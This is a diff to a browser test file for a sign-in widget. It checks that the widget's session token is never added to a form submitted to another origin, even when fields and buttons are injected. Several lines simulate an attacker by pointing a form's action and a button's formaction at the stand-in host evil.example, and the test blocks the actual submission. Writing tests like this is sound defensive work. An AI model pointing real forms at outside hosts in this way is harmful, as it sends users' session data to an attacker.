@@ -102,31 +102,26 @@ test('the session goes to no other origin, whichever button or field of injected
   watch,
 }) => {
   watch.expect(/submit-session needs a form whose action has the origin of the page/);
-  await signIn({ openWidget, emulator }, submits, 'method="post" action="https://evil.example/"');
-  const names = () => read(page).then(Object.keys);
-  expect(await names()).toEqual(['item']);
-  await page.evaluate(() => {
-    const order = document.querySelector('#order');
-    order?.setAttribute('action', '/');
-    order?.insertAdjacentHTML('beforeend', '<input name="action"><input name="getAttribute">');
-    document.querySelector('auth-widget')?.removeAttribute('submit-session');
-    document.querySelector('auth-widget')?.setAttribute('submit-session', '');
-  });
-  await expect.poll(names).toEqual(['item', 'session', 'action', 'getAttribute']);
+  await signIn({ openWidget, emulator }, submits, 'method="post" action="/"');
+  await expect.poll(async () => Object.keys(await read(page))).toEqual(['item', 'session']);
   const stolen = await page.evaluate(() => {
     const order = document.querySelector<HTMLFormElement>('#order');
+    const field = document.createElement('input');
+    field.name = 'action';
     const button = document.createElement('button');
     button.setAttribute('formaction', 'https://evil.example/');
+    order?.append(field, button);
     const names: string[] = [];
     order?.addEventListener('submit', (event) => {
       names.push(...new FormData(order, event.submitter).keys());
       event.preventDefault();
     });
-    order?.append(button);
     button.click();
+    order?.setAttribute('action', 'https://evil.example/');
+    order?.requestSubmit();
     return names;
   });
-  expect(stolen).toEqual(['item', 'action', 'getAttribute']);
+  expect(stolen).toEqual(['item', 'action', 'item', 'action']);
 });
 
 test('without the attribute, the session leaves the form', async ({ page, openWidget, emulator }) => {
